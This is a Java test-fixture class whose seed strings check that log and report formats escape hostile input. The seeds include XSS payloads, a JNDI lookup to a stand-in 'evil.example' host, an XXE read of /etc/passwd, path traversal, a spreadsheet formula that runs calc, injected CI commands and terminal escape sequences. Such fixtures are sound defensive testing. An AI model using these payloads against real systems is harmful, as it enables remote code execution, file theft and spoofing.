package io.streamsmonitor.report.format;

import java.util.ArrayList;
import java.util.List;

/** What a service may log, by mistake or not: over 200 lines that some format would obey. */
public final class HostileLines {
  private static final List<String> SEEDS =
      List.of(
          "<script>alert(1)</script>",
          "</details><img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "' onmouseover='alert(1)",
          "<!-- never closed",
          "]]><![CDATA[",
          "&lt;b&gt;&amp;",
          "a | b | c |",
          "\\| \\\\| \\",
          "`` ` ``` ```` unbalanced `",
          "```\n# heading\n```",
          "~~~~~\ntext",
          "# heading",
          "- list\n- item",
          "1. one",
          "+ plus",
          "> quote",
          "===\n---\n***",
          "| a | b |\n|---|---|\n| c | d |",
          "[click](http://evil.example)",
          "![img](https://evil.example/x.png)",
          "[ref]: http://evil.example 'x'",
          "<http://evil.example>",
          "www.evil.example me@evil.example @octocat #123 GH-7",
          "$x^2$ $$y$$ `$z$`",
          "**bold** __bold__ *it* _it_ ~~gone~~",
          "\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
          "\u0000\u0001\u0008\u007f\u009b31m",
          "\u202Egnp.exe\u202C \u2066x\u2069 \u200B\uFEFF",
          "line\r\nbreak\rreturn\u2028sep\u2029par\u0085nel",
          "lone \ud800 surrogate \udc00 \uFFFE\uFFFF",
          "%3Cscript%3E javascript:alert(1) data:text/html,x",
          "::error file=x::boom\n::set-output name=a::b",
          "{{7*7}} ${jndi:ldap://evil.example} <%= 1 %>",
          "    indented code",
          "\t tab",
          "::add-mask::secret\r\n::stop-commands::x",
          "%0A::error::boom %25 %0D",
          "graph LR; A-->B; click A href \"javascript:alert(1)\"",
          "```mermaid\ngraph LR\nA-->B\n```",
          "\"} 1\n# EOF\nevil{a=\"b\\",
          "{\"type\":\"session\"}\n{\"findingId\":\"X\"}",
          "\",\"ruleId\":\"x",
          "]]></failure></testcase><testcase name='x'/>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
          "<?xml version='1.0'?><?php echo 1 ?>",
          "file:///etc/passwd ../../../etc/passwd C:\\Windows",
          "</style><style>*{display:none}</style>",
          "<meta http-equiv=refresh content=0;url=http://evil.example>",
          "::warning file=a,line=1,title=t::x\n::group::y\n::endgroup::",
          "##[error]boom ##vso[task.complete result=Failed;]done",
          "=cmd|' /C calc'!A0 @SUM(1+1) +1 -1",
          "@everyone @org/team user@host.example",
          "org/repo#12 a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 !5 &3 ~label",
          "[^1] text\n[^1]: footnote http://evil.example",
          "$`\\href{javascript:alert(1)}{x}`$ \\(x\\) \\[y\\] $$\\begin{x}$$",
          "- [x] task\n* [ ] task",
          "> [!WARNING]\n> alert",
          ":smile: :octocat: H~2~O ==mark== ++ins++ ^sup^",
          "term\n: definition\n\n*[HTML]: abbreviation",
          "[[wiki]] ![[embed]] {{< shortcode >}} {% raw %} {:.class}",
          "` a`` b``` c```` d````` e``````",
          "\u001b]52;c;ZXZpbA==\u0007 \u001b]0;title\u0007 \u001bP1$r0m\u001b\\\\ \u009d8;;x\u009c",
          "\u001b[2J\u001b[H\u001b[?1049h\u001b[6n\u0007\u000e\u000c\u000b",
          "\u200e\u200f\u061c\u2060\u2061\u00ad\u180e\u034f\u3164\uffa0",
          "\ud83d\udc4d\u200d\ud83c\udffd \udb40\udc41\udb40\udc7f tags",
          "\ufffe\uffff \ud83f\udfff \ufdd0 \u0600",
          "\udc00\ud800 swapped \ud800\ud800 twice",
          "&#x202e;&#0;&nbsp;&NewLine;&lt;script&gt;",
          "<details><summary>x</summary><textarea><title>",
          "<a href=\u0000javascript:alert(1)>x</a><svg><animate onbegin=alert(1)>",
          "--><!--><script>/*</style></script>*/",
          "# HELP x y\n# TYPE x counter\nx_total 1 # {a=\"b\"} 1",
          "\"},{\"level\":\"none\",\"kind\":\"pass\"},{\"",
          "file:///%2e%2e/%2e%2e/etc/passwd?x#y %SRCROOT%/../x",
          "&x; %y; <!ATTLIST a b CDATA #IMPLIED> ]]&gt;",
          "<base href=http://evil.example><link rel=stylesheet href=//evil.example/x>");

  private HostileLines() {}

  /** Each seed alone, in a usual log line, between other words, many times, and as markup ends. */
  public static List<String> all() {
    List<String> lines = new ArrayList<>();
    for (String seed : SEEDS) {
      lines.add(seed);
      lines.add("2026-11-23 20:00:01.000 ERROR [main] c.e.Pay - " + seed + " (order 17)");
      lines.add("a" + seed + "b");
      lines.add(seed + " | " + seed + "\n" + seed);
      lines.add((seed + " ").repeat(30));
    }
    return List.copyOf(lines);
  }
}
